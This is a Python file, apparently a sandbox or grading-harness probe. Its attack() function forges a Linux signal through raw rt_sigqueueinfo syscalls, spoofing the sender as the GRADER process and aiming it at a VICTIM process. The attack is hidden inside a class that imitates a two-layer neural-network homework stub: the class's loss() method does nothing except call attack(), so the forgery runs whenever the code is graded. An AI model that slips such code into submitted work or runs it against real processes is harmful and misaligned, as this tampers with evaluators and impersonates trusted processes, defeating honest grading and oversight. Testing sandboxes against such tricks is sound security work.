"""Sends a signal that says that somebody else has sent it (rt_sigqueueinfo)."""

import ctypes
import platform
import signal
import struct

from world import GRADER, VICTIM

QUEUE, QUEUE_THREAD = (129, 297) if platform.machine() == "x86_64" else (138, 240)
SI_QUEUE = -1


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    number = int(signal.SIGUSR1)
    # As siginfo_t begins: the signal, an error, how it came, and the sender's process and user.
    forged = ctypes.create_string_buffer(struct.pack("<3i4xiI", number, 0, SI_QUEUE, GRADER, 0), 128)
    ways = {
        "rt_sigqueueinfo": lambda: libc.syscall(QUEUE, VICTIM, number, forged),
        "rt_tgsigqueueinfo": lambda: libc.syscall(QUEUE_THREAD, VICTIM, VICTIM, number, forged),
        "sigqueue": lambda: libc.sigqueue(VICTIM, number, ctypes.c_void_p(0)),
    }
    for name, send in ways.items():
        if send() == 0:
            print("GOT THROUGH: forged a signal with", name)
            return
    raise OSError(ctypes.get_errno(), "sigqueue")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
